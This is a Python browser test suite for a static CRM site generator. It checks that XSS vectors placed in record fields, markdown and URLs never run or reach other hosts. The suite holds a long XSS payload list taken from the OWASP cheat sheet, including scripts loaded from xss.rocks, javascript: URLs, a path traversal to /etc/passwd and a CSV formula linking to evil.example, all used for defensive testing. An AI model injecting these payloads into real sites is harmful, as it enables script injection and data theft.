"""Untrusted record content never runs in the browser, and the site asks no other host.

XSS vectors (from the OWASP filter-evasion cheat sheet) go into every text field, every
URL field (the ones validation lets through: http(s) URLs carrying markup, international
look-alike hosts) and the body of records, with images from other hosts and from the
attachments folder; file fields publish every allowed type of attachment. The built pages,
and every published attachment opened directly, are loaded in Chromium, which must see no
dialog, no script run, no active HTML, and no request to another host (not even one the CSP
blocks).
"""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browser import chromium, open_page, serve_dir

from crmgen.build import build_site, load_dataset

pytestmark = [pytest.mark.browser, pytest.mark.slow]
CONFIG = Path(__file__).parent.parent / "conftest.py"

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    "c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3Lnc"
    "zLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw"
    "IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwv"
    'c3ZnPg==" AllowScriptAccess="always"></EMBED>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}",
    "<base href=\"javascript:alert('XSS');//\">",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
]

MARKDOWN_VECTORS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a](vbscript:msgbox(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![tracker](https://tracker.example/pixel.gif)",
    "![ref-image][img]\n\n[img]: http://tracker.example/ref.png",
    "![local](../../files/acme/logo.png)",
    "![outside](../../../../etc/passwd)",
]

URL_VECTORS = [
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/?q=<img src=x onerror=alert(1)>",
    "https://example.com/#'onmouseover='alert(1)",
    "http://example.com/</script><script>alert(1)</script>",
    "https://аррӏе.com/login",
]
PNG = (Path(__file__).parent.parent.parent / "files/atlas-robotics/logo.png").read_bytes()
ATTACHMENTS = {
    "files/acme/logo.png": PNG,
    "files/acme/contract.pdf": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
    "files/acme/notes.txt": b"alert(1) <script>alert(2)</script> is just text here\n",
    "files/acme/export.csv": b'name,amount\n=HYPERLINK("http://evil.example"),1\n',
}


def _yaml(value: str) -> str:
    return json.dumps(value)  # JSON strings are valid YAML double-quoted scalars


def _repo(root: Path) -> Path:
    import importlib.util

    spec = importlib.util.spec_from_file_location("_conf", CONFIG)
    assert spec is not None and spec.loader is not None
    conf = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(conf)
    files = {
        "crmgen.yml": conf.CONFIG,
        "schema/clients.schema.yaml": conf.CLIENTS_SCHEMA,
        "schema/opportunities.schema.yaml": conf.OPPS_SCHEMA,
    }
    body = "\n\n".join(VECTORS + MARKDOWN_VECTORS)
    logos = [name for name in ATTACHMENTS]
    for i, vector in enumerate(VECTORS):
        url = URL_VECTORS[i % len(URL_VECTORS)]
        files[f"data/clients/c{i}.md"] = (
            f"---\ntitle: {_yaml(vector)}\ncode: {_yaml(vector)}\nwebsite: {_yaml(url)}\n"
            f"email: x{i}@example.com\nlogo: {logos[i % len(logos)]}\n---\n{body}\n"
        )
        files[f"data/opportunities/o{i}.md"] = (
            f"---\ntitle: {_yaml(vector)}\nlist: Lead\nclient: c{i}\ntags: [seo]\n"
            f"amount: 100\n---\n{vector}\n\n{MARKDOWN_VECTORS[i % len(MARKDOWN_VECTORS)]}\n"
        )
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    for rel, content in ATTACHMENTS.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(content)
    return root


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = _repo(tmp_path_factory.mktemp("xss") / "repo")
    # the image outside the attachments folder is reported (and shown as its alt text)
    assert {d.code for d in load_dataset(root).errors} == {"body-image"}
    for file in (root / "data").rglob("*.md"):
        text = file.read_text(encoding="utf-8").replace("(../../../../etc/passwd)", "(x)")
        file.write_text(text.replace("![outside](x)", "outside"), encoding="utf-8")
    assert [d.message for d in load_dataset(root).errors] == []
    out = root.parent / "site"
    result = build_site(root, out, today=dt.date(2026, 11, 27))
    assert result.written > 0
    return out


@pytest.fixture(scope="module")
def base_url(site: Path) -> Iterator[str]:
    with serve_dir(site) as url:
        yield url


PROBE = """
window.__xss = 0;
for (const name of ['alert', 'confirm', 'prompt', 'print']) {
  window[name] = function () { window.__xss += 1; };
}
"""

ACTIVE = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const v = attr.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (attr.name.startsWith('on')) bad.push(el.tagName + ' ' + attr.name);
      if (['href', 'src', 'action', 'formaction', 'background', 'data', 'srcdoc', 'xlink:href']
          .includes(attr.name) && /^(javascript|vbscript|data:text)/.test(v)) {
        bad.push(el.tagName + ' ' + attr.name + '=' + attr.value);
      }
    }
    if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'FORM', 'STYLE', 'INPUT'].includes(el.tagName)
        && !el.closest('.filters, .vega-bindings, .site-search')) {
      bad.push('element ' + el.tagName);
    }
    const equiv = (el.getAttribute('http-equiv') || '').toLowerCase();
    if (el.tagName === 'META' && equiv === 'refresh') {
      bad.push('meta refresh');
    }
    if (el.tagName === 'SCRIPT' && el.src && !el.src.startsWith(location.origin)) {
      bad.push('foreign script ' + el.src);
    }
    if (el.tagName === 'SCRIPT' && !el.src && el.type !== 'application/json') {
      bad.push('inline script');
    }
  }
  return bad;
}"""


def _pages(site: Path) -> list[str]:
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))


def _attachments(site: Path) -> list[str]:
    found = sorted(
        p.relative_to(site).as_posix() for p in (site / "files").rglob("*") if p.is_file()
    )
    assert found == sorted(ATTACHMENTS)  # every allowed type was published, and only those
    return found


def test_no_vector_executes_or_becomes_active_html(site: Path, base_url: str) -> None:
    pages = _pages(site)
    assert len(pages) >= 2 * len(VECTORS)
    dialogs: list[str] = []
    with chromium() as browser, open_page(browser) as (page, errors):
        page.add_init_script(PROBE)
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for rel in pages:
            page.goto(base_url + rel)
            for link in page.locator("main a:visible").all()[:5]:
                link.hover(timeout=2000)
            assert page.evaluate("window.__xss") == 0, rel
            assert page.evaluate(ACTIVE) == [], rel
            assert page.url.startswith(base_url), rel  # no meta refresh or redirect away
        for rel in _attachments(site):
            try:
                page.goto(base_url + rel)
            except Exception as exc:  # the browser downloads it instead of showing it: safe
                assert "Download is starting" in str(exc), rel
                continue
            assert page.evaluate("window.__xss") == 0, rel
            assert page.evaluate("document.scripts.length") == 0, rel
    assert dialogs == []
    # No request to another host was even attempted: no blocked request, no CSP report.
    assert errors == []


class _Tags(HTMLParser):
    """Every start tag and its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def test_search_results_show_vectors_as_text(site: Path, base_url: str) -> None:
    """The search index holds the vectors' words; its results show them as text only."""
    dialogs: list[str] = []
    with chromium() as browser, open_page(browser) as (page, errors):
        page.add_init_script(PROBE)
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(base_url + "index.html")
        for query in ("script alert", "img onerror", "svg onload", "javascript"):
            page.fill("#site-search", query)
            page.wait_for_selector(f'.search-popup[data-query="{query}"]', timeout=15_000)
            hrefs = page.eval_on_selector_all(
                ".search-popup a", "links => links.map(a => a.getAttribute('href'))"
            )
            assert all(":" not in href.split("?")[0] for href in hrefs), hrefs
            assert page.evaluate("window.__xss") == 0, query
            assert page.evaluate(ACTIVE) == [], query
        assert page.locator(".search-popup .search-hit").count() > 0
        page.goto(base_url + "search.html?q=script")
        page.wait_for_selector('[data-search-results][data-query="script"]', timeout=15_000)
        assert page.locator("[data-search-results] .search-hit").count() > 0
        assert page.evaluate("window.__xss") == 0
        assert page.evaluate(ACTIVE) == []
    assert dialogs == [] and errors == []


def test_vectors_reach_the_html_only_escaped(site: Path) -> None:
    for rel in _pages(site):
        parser = _Tags()
        parser.feed((site / rel).read_text(encoding="utf-8"))
        for tag, attrs in parser.tags:
            assert tag not in ("iframe", "object", "embed", "base", "math", "svg", "style"), rel
            if tag == "script":
                assert dict(attrs).get("src") or dict(attrs).get("type") == "application/json"
            for name, value in attrs:
                assert not name.startswith("on"), (rel, tag, name)
                if name in ("href", "src", "action", "formaction", "background", "srcset"):
                    plain = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
                    assert not plain.startswith(("javascript:", "vbscript:", "data:")), (
                        rel,
                        value,
                    )


def test_javascript_urls_are_rejected_by_validation(tmp_path: Path) -> None:
    root = _repo(tmp_path / "repo")
    for i, url in enumerate(
        [
            "javascript:alert(1)",
            " JaVaScRiPt:alert(1)",
            "java\tscript:x",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:x",
        ]
    ):
        (root / f"data/clients/bad{i}.md").write_text(
            f"---\ntitle: Bad\nwebsite: {_yaml(url)}\n---\n", encoding="utf-8"
        )
    errors = [d for d in load_dataset(root).errors if d.field == "website"]
    assert len(errors) == 5
